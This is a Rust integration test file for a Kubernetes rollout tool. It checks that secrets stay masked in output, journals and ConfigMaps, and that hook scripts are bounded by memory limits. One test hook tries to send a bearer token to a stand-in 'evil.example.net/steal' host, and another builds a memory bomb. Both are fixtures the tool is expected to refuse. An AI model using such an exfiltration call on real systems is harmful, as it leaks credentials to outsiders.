//! Secrets through the real binary against the simulator and a real local HTTP echo server that
//! sends the Authorization header back raw, JSON-escaped and URL-encoded (issue 11): nothing of
//! the secret reaches stdout, stderr, the journal file or the journal ConfigMap; secrets too short
//! to mask are refused; a trailing line break is dropped; hooks reach only the env's hosts and a
//! hook over its memory budget fails its guard and the run rolls back.

mod support;

use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use axum::http::HeaderMap;
use ktplay::sim::SimConfig;
use support::{Backend, TestCluster};

const BIN: &str = env!("CARGO_BIN_EXE_ktplay");
/// 17 characters with a `"` and a `\`, which JSON escapes.
const SECRET: &str = "sekret-ADMIN-\"q\\z";

/// An echo server: `/echo` answers 500 with the Authorization header in three encodings, placed
/// so that a cut at 200 characters falls inside the raw one.
async fn echo_server(seen: Arc<Mutex<Vec<String>>>) -> String {
    let app = axum::Router::new().route(
        "/echo",
        axum::routing::get(move |headers: HeaderMap| {
            let seen = seen.clone();
            async move {
                let auth = headers
                    .get("authorization")
                    .and_then(|v| v.to_str().ok())
                    .unwrap_or_default()
                    .to_string();
                seen.lock().unwrap().push(auth.clone());
                let json = serde_json::to_string(&auth).unwrap();
                let url: String = auth
                    .bytes()
                    .map(|b| {
                        if b.is_ascii_alphanumeric() || b == b'-' {
                            (b as char).to_string()
                        } else {
                            format!("%{b:02X}")
                        }
                    })
                    .collect();
                let pad = "p".repeat(200 - "you sent: ".len() - "Bearer sekret".len());
                let body = format!("{pad}you sent: {auth} json={json} url={url}");
                (axum::http::StatusCode::INTERNAL_SERVER_ERROR, body)
            }
        }),
    );
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
    format!("http://{addr}")
}

fn playbook(dir: &Path, ns: &str, echo: &str, hook: &str) -> PathBuf {
    let text = format!(
        r#"playbook "secrets" {{
  namespace "{ns}"
  let admin_key = env("ADMIN_TOKEN")
  component api {{ deployment "keeptrusts-api" container "api" image "keeptrusts/api" from 1.4.2 to 1.5.0 }}
  env staging {{
    context "staging"
    let echo_url = "{echo}"
  }}
  stage api {{
    rolling api
    guard rhai """{hook}"""
    guard http GET "${{echo_url}}/echo" {{ bearer admin_key expect 200 }}
  }}
}}
"#
    );
    let p = dir.join("secrets.ktplay");
    std::fs::write(&p, text).unwrap();
    p
}

fn kubeconfig(dir: &Path, c: &TestCluster) -> PathBuf {
    let y = format!(
        "apiVersion: v1\nkind: Config\nclusters:\n- name: staging\n  cluster:\n    server: {}\nusers:\n- name: u\n  user: {{}}\ncontexts:\n- name: staging\n  context:\n    cluster: staging\n    user: u\n    namespace: {}\ncurrent-context: staging\n",
        c.api_url(),
        c.ns
    );
    let p = dir.join("kubeconfig");
    std::fs::write(&p, y).unwrap();
    p
}

struct Ran {
    code: Option<i32>,
    stdout: String,
    stderr: String,
    journal: String,
    configmaps: String,
}

async fn run(hook: &str, token: &str, format: &str) -> (Ran, Vec<String>) {
    let seen = Arc::new(Mutex::new(Vec::new()));
    let echo = echo_server(seen.clone()).await;
    let dir = tempfile::tempdir().unwrap();
    let ns = support::namespace("secrets");
    let pb = playbook(dir.path(), &ns, &echo, hook);
    let checked = ktplay::check::check_paths(std::slice::from_ref(&pb)).unwrap();
    assert_eq!(checked.errors(), 0, "{:?}", checked.problems);
    let mut seed = ktplay::rehearse::seed_for(&checked.playbooks[0].1, &ns);
    for c in &mut seed.components {
        c.replicas = 2;
    }
    let c = TestCluster::new(Backend::Sim, SimConfig::default(), &seed).await;
    let kc = kubeconfig(dir.path(), &c);
    let journal = dir.path().join("journal.jsonl");
    let out = tokio::time::timeout(
        Duration::from_secs(120),
        tokio::process::Command::new(BIN)
            .args(["run", pb.to_str().unwrap(), "--env", "staging", "--approve"])
            .arg("--kubeconfig")
            .arg(&kc)
            .arg("--journal")
            .arg(&journal)
            .args(["--format", format])
            .env("ADMIN_TOKEN", token)
            .env("NO_COLOR", "1")
            .env_remove("KUBECONFIG")
            .stdin(std::process::Stdio::null())
            .output(),
    )
    .await
    .expect("ktplay finished in time")
    .unwrap();
    let configmaps = serde_json::to_string(&c.list("configmaps").await).unwrap();
    let ran = Ran {
        code: out.status.code(),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
        journal: std::fs::read_to_string(&journal).unwrap_or_default(),
        configmaps,
    };
    let seen = seen.lock().unwrap().clone();
    (ran, seen)
}

/// Nothing of the secret anywhere: not raw, not JSON-escaped, not URL-encoded, not a prefix.
fn assert_clean(what: &str, text: &str) {
    for leak in [
        "sekret",
        "sekret-ADMIN-\\\"q",
        "sekret-ADMIN-%22",
        "ktplay::script::api::Secret",
    ] {
        assert!(!text.contains(leak), "{what} shows `{leak}`:\n{text}");
    }
}

const HOOK: &str = r#"
      let auth = #{ authorization: "Bearer " + secret("admin_key") };
      let r = http_get(vars.echo_url + "/echo", auth);
      log(r.body);
      let refused = "";
      try { http_get("https://evil.example.net/steal", auth); } catch (e) { refused = `${e}`; }
      log(refused);
      #{ ok: r.status == 500, message: r.body }
    "#;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_echoed_secret_never_reaches_output_journal_or_configmap() {
    for format in ["human", "json"] {
        let (ran, seen) = run(HOOK, SECRET, format).await;
        let all = format!("{}\n{}", ran.stdout, ran.stderr);
        if std::env::var_os("SHOW").is_some() {
            eprintln!("{all}\n--- journal\n{}", ran.journal);
        }
        assert_eq!(ran.code, Some(1), "rolled back:\n{all}");
        // The server did receive the secret (from the hook and the guard).
        assert!(seen.len() >= 2, "{seen:?}");
        assert!(
            seen.iter().all(|s| s == &format!("Bearer {SECRET}")),
            "{seen:?}"
        );
        assert!(all.contains("answered 500"), "{all}");
        assert!(all.contains("(secret)"), "the echo is shown masked:\n{all}");
        // The hook's request to a host the env does not name was refused.
        assert!(
            all.contains("allow_hosts \\\"evil.example.net\\\"")
                || all.contains("allow_hosts \"evil.example.net\""),
            "{all}"
        );
        assert_clean("stdout", &ran.stdout);
        assert_clean("stderr", &ran.stderr);
        assert!(!ran.journal.is_empty());
        assert_clean("the journal file", &ran.journal);
        assert!(
            ran.configmaps.contains("ktplay-journal-"),
            "{}",
            ran.configmaps
        );
        assert_clean("the journal ConfigMap", &ran.configmaps);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn unsafe_secrets_are_refused_and_a_trailing_newline_is_dropped() {
    let (ran, seen) = run("true", "1", "human").await;
    assert_eq!(ran.code, Some(3), "{}", ran.stderr);
    assert!(
        ran.stderr.contains("cannot be masked safely"),
        "{}",
        ran.stderr
    );
    assert!(seen.is_empty(), "nothing was sent");

    let (ran, seen) = run("true", "sekret-ADMIN-token\n", "human").await;
    let all = format!("{}\n{}", ran.stdout, ran.stderr);
    assert!(!all.contains("builder error"), "{all}");
    assert_eq!(seen, vec!["Bearer sekret-ADMIN-token".to_string()], "{all}");
    assert_eq!(ran.code, Some(1), "{all}");
    assert_clean("output", &all);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hook_over_its_memory_budget_fails_the_guard_and_the_run_rolls_back() {
    let bomb = r#"
      let s = "x"; for i in 0..19 { s += s; }
      let m = #{}; for i in 0..9000 { m[`k${i}`] = s + i; }
      true
    "#;
    let (ran, _) = run(bomb, SECRET, "human").await;
    let all = format!("{}\n{}", ran.stdout, ran.stderr);
    assert_eq!(ran.code, Some(1), "{all}");
    assert!(all.contains("memory budget of 64 MiB"), "{all}");
    assert!(all.contains('↩'), "the rollback ran:\n{all}");
}
